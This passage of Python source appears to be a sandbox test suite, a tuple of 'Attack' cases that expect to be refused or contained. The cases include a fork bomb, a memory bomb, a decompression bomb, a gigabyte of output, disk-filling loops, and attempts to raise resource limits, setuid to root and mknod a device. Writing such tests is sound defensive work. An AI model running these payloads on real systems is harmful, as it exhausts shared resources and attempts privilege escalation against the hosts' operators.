    Attack("a cell that sleeps for ever", """
import time
time.sleep(10**6)
""", said="left out: it took too long"),
    Attack("a cell that computes for ever", """
10 ** 10 ** 9
while True: pass
""", said="left out: it took too long"),
    Attack("a cell that takes for ever to be understood", "%time 1\n" * 3000,
           said="left out: it took too long"),
    Attack("a cell too long to be read", "x = (" + "1," * 10**6 + ")", said="too much code"),
    Attack("a cell too deep to be parsed", "x = " + "-" * 50_000 + "1", proof="True"),
    Attack("a fork bomb", """
import os
def training_state_bytes(*a):
    while True:
        try: os.fork()
        except OSError: pass
""", last=True, said="more processes than it may|took too long"),
    Attack("a memory bomb", """
def training_state_bytes(*a):
    held = []
    while True: held.append(bytearray(10**8))
""", last=True, said="MemoryError|more memory"),
    Attack("a gigabyte of output", """
import sys
written = 0
def training_state_bytes(*a):
    global written
    for _ in range(1000):
        sys.__stdout__.write("x" * 10**6) if sys.__stdout__ else None
        written += 10**6
    return 0
for _ in range(20): print("x" * 10**6)
""", last=True, proof="written >= 10**9"),
    Attack("a gigabyte of answer", """
asked = []
def training_state_bytes(*a): asked.append(1); return "x" * 10**8
def lora_state_bytes(*a): return [[[1.0] * 1000] * 1000] * 10
def qlora_weight_bytes(*a):
    import torch
    return torch.zeros(10**7)
def cheapest_fit(*a): return {str(n): n for n in range(10**5)}
""", last=True, said="usable size"),
    Attack("a decompression bomb", """
import zlib
def training_state_bytes(*a):
    tool, size = zlib.decompressobj(), 0
    bomb = zlib.compress(bytes(10**8), 9)
    held = [zlib.decompress(bomb) for _ in range(100)]
    return len(held)
""", last=True, said="MemoryError|more memory|too long"),
    Attack("every private folder is filled", """
import os
full = []
for folder in (os.getcwd(), os.path.expanduser("~"), os.environ["TMPDIR"], "/dev/shm"):
    try:
        for number in range(10**5): open(f"{folder}/many-{number}", "w").close()
    except OSError: full.append(folder)
    try:
        with open(f"{folder}/many-0", "wb") as file:
            while True: file.write(bytes(10**6))
    except OSError: full.append(folder)
    try: os.truncate(f"{folder}/many-1", 10**15)
    except OSError: full.append(folder)
""", proof="len(full) == 12"),
    Attack("limits are raised, priority is taken", """
import ctypes, os, resource
refused = []
def attempt(act, *a):
    try: act(*a)
    except (OSError, ValueError): refused.append(act.__name__)
for name in ("CPU", "DATA", "FSIZE", "NPROC", "NOFILE", "CORE", "MEMLOCK"):
    number = getattr(resource, "RLIMIT_" + name)
    attempt(resource.setrlimit, number, (resource.RLIM_INFINITY, resource.RLIM_INFINITY))
attempt(os.nice, -5)
attempt(os.setpriority, os.PRIO_PROCESS, 0, -10)
attempt(os.sched_setscheduler, 0, os.SCHED_FIFO, os.sched_param(1))
attempt(os.setuid, 0); attempt(os.setgid, 0); attempt(os.chroot, "/tmp")
attempt(os.mknod, "device", 0o60666, os.makedev(254, 0))
for path in ("/proc/self/oom_score_adj",):
    try: open(path, "w").write("-1000")
    except OSError: refused.append(path)
""", proof="len(refused) == 15"),
)

ATTACKS = (*IN_PROCESS, *MESSAGES, *ENDS, *READING, *BOMBS)
